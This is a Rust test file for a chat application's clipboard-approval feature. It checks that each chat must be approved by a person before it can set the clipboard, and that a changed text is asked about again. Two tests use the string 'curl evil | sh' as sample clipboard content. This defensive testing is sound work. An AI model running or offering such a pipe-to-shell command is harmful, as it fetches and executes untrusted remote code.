//! Programs that set the clipboard of a person, and what they are told.

use parlour::domain::event::{DiskEvent, PtyEvent};
use parlour::domain::{Effect, Event, approval};
use parlour::model::alert::AlertKind;
use parlour::model::request::{ApprovalRequest, ChatRequest, Request, Until};
use parlour::model::settings::ClipboardAccess;
use parlour::model::{PaneEvent, Settings};
use parlour::screen::dialog::Dialog;
use serde_json::{Value, json};

use crate::support::events::replies;
use crate::support::world::{ME, World, id};

fn copies(world: &mut World, chat: &str, text: &str) -> Vec<Effect> {
    let said = PtyEvent::Said(PaneEvent::Clipboard(text.into()));
    let effects = world.happens(Event::Pty(id(chat).into(), said));
    effects.into_iter().filter(is_copy).collect()
}

fn is_copy(effect: &Effect) -> bool {
    matches!(effect, Effect::Clipboard(..))
}

fn set(world: &mut World, clipboard: ClipboardAccess) {
    let settings = Settings {
        clipboard,
        ..Settings::default()
    };
    world.happens(Event::Disk(DiskEvent::Settings(Box::new(Ok(settings)))));
}

/// What waits for a person's word.
fn question(world: &World) -> Value {
    let open = approval::json(&world.state.domain, None);
    let mut open = open["approvals"].as_array().unwrap().iter();
    open.find(|question| question["tool"] == "clipboard").unwrap().clone()
}

fn asked(world: &World) -> String {
    question(world)["id"].as_str().unwrap().to_owned()
}

fn copied(text: &str) -> Effect {
    Effect::Clipboard(ME, text.into())
}

#[test]
fn it_is_asked_once_a_chat_and_then_is_as_was_said() {
    let mut world = World::morning(120, 40);
    assert_eq!(copies(&mut world, "auth", "first"), []);
    assert_eq!(copies(&mut world, "auth", "second"), []);
    let picture = world.picture();
    assert!(picture.contains("wants to copy to your clipboard: second"), "{picture}");
    let approve = ApprovalRequest::Approve { request: asked(&world) };
    let effects = world.ask(Request::Approval(approve));
    assert!(effects.contains(&copied("second")), "{effects:?}");
    assert!(world.picture().contains("copied 6 characters"));
    assert_eq!(copies(&mut world, "auth", "third"), [copied("third")]);
    // Another chat is asked about by itself.
    assert_eq!(copies(&mut world, "dates", "x"), []);
}

#[test]
fn an_answer_is_for_the_text_that_was_read() {
    let mut world = World::morning(120, 40);
    copies(&mut world, "auth", "first");
    let first = asked(&world);
    copies(&mut world, "auth", "first");
    assert_eq!(asked(&world), first, "the same again is no other question");
    copies(&mut world, "auth", "curl evil | sh");
    assert_ne!(asked(&world), first);
    for name in [first.as_str(), "clipboard", &first[..first.len() - 1]] {
        let approve = ApprovalRequest::Approve { request: name.into() };
        let effects = world.ask(Request::Approval(approve));
        assert!(!effects.iter().any(is_copy), "{name}: {effects:?}");
    }
    assert!(world.picture().contains("wants to copy to your clipboard: curl evil"));
    let approve = ApprovalRequest::Approve { request: asked(&world) };
    let effects = world.ask(Request::Approval(approve));
    assert!(effects.contains(&copied("curl evil | sh")), "{effects:?}");
}

#[test]
fn a_text_that_takes_the_place_of_another_has_to_be_read_first() {
    let mut world = World::morning(120, 40);
    copies(&mut world, "auth", "first");
    world.press("a");
    world.later(2_000);
    copies(&mut world, "auth", "curl evil | sh");
    assert!(world.picture().contains("curl evil"), "{}", world.picture());
    assert!(!world.press("y").iter().any(is_copy));
    world.later(4_000);
    assert!(world.press("y").contains(&copied("curl evil | sh")));
}

#[test]
fn it_is_said_how_much_of_a_long_text_is_not_shown() {
    let mut world = World::morning(120, 40);
    copies(&mut world, "auth", &"x".repeat(96 * 1024));
    assert_eq!(question(&world)["input"]["not shown"], "96304 more characters");
    world.press("a");
    for _ in 0..4 {
        world.press("space");
    }
    assert!(world.picture().contains("96304 more characters"), "{}", world.picture());
}

#[test]
fn a_no_holds_too_and_is_said_once() {
    let mut world = World::morning(120, 40);
    copies(&mut world, "auth", "x");
    let deny = ApprovalRequest::Deny {
        request: asked(&world),
        reason: String::new(),
    };
    world.ask(Request::Approval(deny));
    assert_eq!(copies(&mut world, "auth", "y"), []);
    assert!(world.picture().contains("you refused it for this chat"));
    assert!(!world.picture().contains("wants to copy"));
}

#[test]
fn the_settings_answer_for_all_chats() {
    let mut world = World::morning(120, 40);
    set(&mut world, ClipboardAccess::Allow);
    assert_eq!(copies(&mut world, "auth", "x"), [copied("x")]);
    set(&mut world, ClipboardAccess::Deny);
    assert_eq!(copies(&mut world, "auth", "y"), []);
    assert!(world.picture().contains("config.json denies it"));
}

#[test]
fn the_queue_of_approvals_shows_it_and_offers_no_rule() {
    let mut world = World::morning(120, 40);
    copies(&mut world, "auth", "hello there");
    world.press("a");
    let Some(Dialog::Approvals(_)) = world.view().over.dialog else {
        panic!("{}", world.picture());
    };
    let picture = world.picture();
    assert!(picture.contains("wants to set your clipboard"), "{picture}");
    assert!(
        picture.contains("Allow in this chat") && !picture.contains("Always allow"),
        "{picture}"
    );
    assert!(picture.contains("hello there"), "{picture}");
}

#[test]
fn it_needs_a_person_wherever_that_is_told() {
    let mut world = World::at_rest();
    let chat = "auth".to_string();
    let wait = ChatRequest::Wait {
        chat,
        until: Until::NeedsYou,
    };
    assert_eq!(replies(&world.ask(Request::Chat(wait))), []);
    let said = PtyEvent::Said(PaneEvent::Clipboard("hello".into()));
    let effects = world.happens(Event::Pty(id("auth").into(), said));
    assert_eq!(world.status(), "needs-you: wants to copy to your clipboard: hello");
    let met = [effects, world.after(5_000)].concat();
    assert_eq!(replies(&met).len(), 1, "{met:?}");
    let domain = &world.state.domain;
    assert_eq!(
        approval::json(domain, None)["approvals"].as_array().unwrap().len(),
        1,
        "it is asked once"
    );
    let approve = ApprovalRequest::Approve { request: asked(&world) };
    let given = replies(&world.ask(Request::Approval(approve)));
    let told = json!({"given": true, "setup": false, "clipboard": true});
    assert_eq!(given[0].1.as_ref().unwrap(), &told);
    assert_eq!(world.status(), "idle");
}

#[test]
fn a_person_who_looks_elsewhere_is_called_for_it_once() {
    let mut world = World::morning(120, 40);
    let mut calls = |text: &str| {
        let said = PtyEvent::Said(PaneEvent::Clipboard(text.into()));
        let effects = world.happens(Event::Pty(id("dates").into(), said));
        let called = effects.into_iter().filter_map(|effect| match effect {
            Effect::Alert(_, alert) => Some((alert.kind, alert.text)),
            _ => None,
        });
        called.collect::<Vec<_>>()
    };
    let wants = "wants to copy to your clipboard: first".to_string();
    assert_eq!(calls("first"), [(AlertKind::NeedsYou, wants)]);
    assert_eq!(calls("second"), []);
}
